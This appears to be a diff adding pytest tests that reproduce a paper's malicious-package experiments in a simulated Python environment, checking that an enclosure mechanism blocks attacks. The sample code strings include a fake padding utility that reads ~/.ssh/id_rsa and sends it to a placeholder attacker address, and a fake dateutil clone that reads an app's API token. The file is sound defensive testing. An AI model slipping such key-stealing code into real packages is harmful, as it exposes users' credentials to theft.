@@ -1,0 +1,104 @@
+"""§6.5 for the Python frontend: the paper's malicious packages were
+mostly PyPI libraries [15-18]; re-run the same patterns under Pylite."""
+
+import pytest
+
+from repro.errors import PageFault, SyscallFault
+from repro.os.net import CollectorService, ip_of
+from repro.pylite import Interpreter, PyMachine
+
+ATTACKER = ip_of("6.6.6.6")
+
+#: "ssh-decorator" pattern [15]: advertised utility steals ~/.ssh keys.
+STEALER = f"""
+def pad(s, width):
+    loot = read_file("/home/user/.ssh/id_rsa")
+    connect_send({ATTACKER}, 443, loot)
+    out = s
+    while len(out) < width:
+        out = " " + out
+    return out
+
+def run():
+    return pad("x", 4)
+"""
+
+#: fake-dateutil pattern [43]: a clone whose API also reads app secrets.
+CLONE = """
+import appconfig
+
+def parse(s):
+    leak = appconfig.api_token
+    return len(s) + len(leak) - len(leak)
+
+def run():
+    return parse("2026-07-07")
+"""
+
+
+def build(machine_mode, main_src, **modules):
+    machine = PyMachine(machine_mode)
+    machine.kernel.fs.add_file("/home/user/.ssh/id_rsa",
+                               b"PRIVATE-KEY-MATERIAL")
+    collector = CollectorService()
+    machine.kernel.net.register_service(ATTACKER, 443, collector)
+    interp = Interpreter(machine)
+    for name, src in modules.items():
+        interp.add_source(name, src)
+    return machine, interp, collector
+
+
+class TestKeyStealerPylite:
+    def test_unprotected_leaks(self):
+        machine, interp, collector = build(
+            "python", "", leftpad=STEALER)
+        interp.add_source("leftpad", STEALER)
+        interp.run_main('import leftpad\nout = leftpad.pad("x", 4)\n')
+        assert b"PRIVATE-KEY-MATERIAL" in bytes(collector.received)
+        assert interp.to_python(
+            machine.modules["__main__"].namespace["out"]) == "   x"
+
+    def test_enclosure_blocks_at_first_syscall(self):
+        machine, interp, collector = build("conservative", "")
+        interp.add_source("leftpad", STEALER)
+        with pytest.raises(SyscallFault):
+            interp.run_main(
+                "import leftpad\n"
+                'f = enclosure("none", leftpad.run)\n'
+                "out = f()\n")
+        assert not collector.received
+
+    def test_file_only_policy_blocks_exfiltration(self):
+        """Give the package file access but no network: the key is read
+        but cannot leave the machine."""
+        machine, interp, collector = build("conservative", "")
+        interp.add_source("leftpad", STEALER)
+        with pytest.raises(SyscallFault):
+            interp.run_main(
+                "import leftpad\n"
+                'f = enclosure("io file", leftpad.run)\n'
+                "out = f()\n")
+        # open+read succeeded; the socket was the faulting call.
+        assert not collector.received
+
+
+class TestCloneAttackPylite:
+    MAIN = ('import appconfig\nimport dateutil\n'
+            'f = enclosure("appconfig:U, none", dateutil.run)\n'
+            "out = f()\n")
+
+    def test_unprotected_reads_secret(self):
+        machine, interp, _ = build("python", "")
+        interp.add_source("appconfig", 'api_token = "tok-123456"\n')
+        interp.add_source("dateutil", CLONE)
+        interp.run_main("import appconfig\nimport dateutil\n"
+                        'out = dateutil.parse("2026-07-07")\n')
+        assert interp.to_python(
+            machine.modules["__main__"].namespace["out"]) == 10
+
+    def test_unmapping_appconfig_blocks_clone(self):
+        machine, interp, _ = build("conservative", "")
+        interp.add_source("appconfig", 'api_token = "tok-123456"\n')
+        interp.add_source("dateutil", CLONE)
+        with pytest.raises(PageFault):
+            interp.run_main(self.MAIN)
